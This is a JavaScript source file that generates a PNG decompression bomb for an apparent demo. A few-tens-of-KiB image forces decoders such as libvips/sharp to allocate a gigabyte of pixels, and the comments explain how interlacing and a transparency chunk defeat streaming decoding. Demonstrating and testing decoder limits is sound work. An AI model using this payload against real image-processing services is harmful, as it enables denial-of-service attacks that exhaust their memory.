// A decompression bomb the demo makes itself: a PNG of a few tens of KiB that a decoder must
// turn into a gigabyte of pixels. Built from the PNG format by hand (zlib for the pixel data,
// nothing else), without ever holding the pixels: the host that makes it and uploads it never
// sees the gigabyte; only the worker that decodes it does.
//
// Why it is shaped this way:
// - One palette entry, 1 bit per pixel: the file stores 8 pixels per byte. A transparency entry
//   (tRNS) makes decoders expand each pixel to RGBA, 4 bytes: 32 bytes decoded per byte stored.
// - Every pixel is index 0, so the pixel data is all zero bytes (filter type 0 too), which
//   deflate squeezes about 1000 : 1. 32 × 1000 is the bomb's ratio.
// - Adam7 interlacing: a decoder cannot hand out rows before the last pass, so libvips (sharp)
//   decodes the whole image into memory instead of streaming it row by row into the resize.
import { once } from 'node:events'
import { createDeflate } from 'node:zlib'

/** Width and height of the bomb: 16384² pixels, 1 GiB as 8-bit RGBA. */
export const BOMB_SIDE = 16384

/** Bytes a decoder needs for the bomb's pixels as 8-bit RGBA. */
export const BOMB_DECODED_BYTES = BOMB_SIDE * BOMB_SIDE * 4

/** The seven Adam7 passes: [first column, first row, column step, row step]. */
const ADAM7 = [
  [0, 0, 8, 8],
  [4, 0, 8, 8],
  [0, 4, 4, 8],
  [2, 0, 4, 4],
  [0, 2, 2, 4],
  [1, 0, 2, 2],
  [0, 1, 1, 2],
]

/** Bytes of interlaced 1-bit pixel data for a `width` × `height` image: each row of each pass is a filter byte and its packed bits. */
function interlacedLength(width, height) {
  let bytes = 0
  for (const [x0, y0, dx, dy] of ADAM7) {
    const columns = Math.ceil((width - x0) / dx)
    const rows = Math.ceil((height - y0) / dy)
    if (columns > 0 && rows > 0) bytes += rows * (1 + Math.ceil(columns / 8))
  }
  return bytes
}

/** `length` zero bytes, deflated, fed in 1 MiB pieces so they are never all in memory. */
async function deflatedZeros(length) {
  const deflate = createDeflate({ level: 9 })
  const out = []
  deflate.on('data', (chunk) => out.push(chunk))
  const ended = once(deflate, 'end')
  const zeros = Buffer.alloc(2 ** 20)
  for (let left = length; left > 0; left -= zeros.length) {
    if (!deflate.write(zeros.subarray(0, Math.min(left, zeros.length)))) await once(deflate, 'drain')
  }
  deflate.end()
  await ended
  return Buffer.concat(out)
}

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1
  return c >>> 0
})

/** The CRC-32 of `bytes`, as PNG chunks carry it. */
function crc32(bytes) {
  let c = 0xffffffff
  for (const byte of bytes) c = CRC_TABLE[(c ^ byte) & 0xff] ^ (c >>> 8)
  return (c ^ 0xffffffff) >>> 0
}

/** A PNG chunk: length, type, data, CRC of type and data. */
function chunk(type, data) {
  const typed = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const length = Buffer.alloc(4)
  length.writeUInt32BE(data.length)
  const crc = Buffer.alloc(4)
  crc.writeUInt32BE(crc32(typed))
  return Buffer.concat([length, typed, crc])
}

/** The bomb: a valid, interlaced, one-colour `side` × `side` PNG. */
export async function decompressionBomb(side = BOMB_SIDE) {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(side, 0)
  header.writeUInt32BE(side, 4)
  header[8] = 1 // bit depth
  header[9] = 3 // colour type: palette
  header[12] = 1 // interlace: Adam7 (compression and filter method 0)
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('PLTE', Buffer.from([0xe6, 0x39, 0x46])),
    chunk('tRNS', Buffer.from([0xff])),
    chunk('IDAT', await deflatedZeros(interlacedLength(side, side))),
    chunk('IEND', Buffer.alloc(0)),
  ])
}
